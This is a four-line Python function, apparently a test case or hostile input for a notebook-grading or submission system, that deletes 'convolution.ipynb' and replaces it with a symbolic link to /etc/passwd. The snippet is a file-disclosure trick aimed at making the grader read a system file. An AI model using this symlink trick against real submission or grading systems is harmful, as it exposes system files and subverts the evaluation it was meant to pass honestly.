def submit(folder, notebook):
    path = folder / "convolution.ipynb"
    path.unlink()
    path.symlink_to("/etc/passwd")
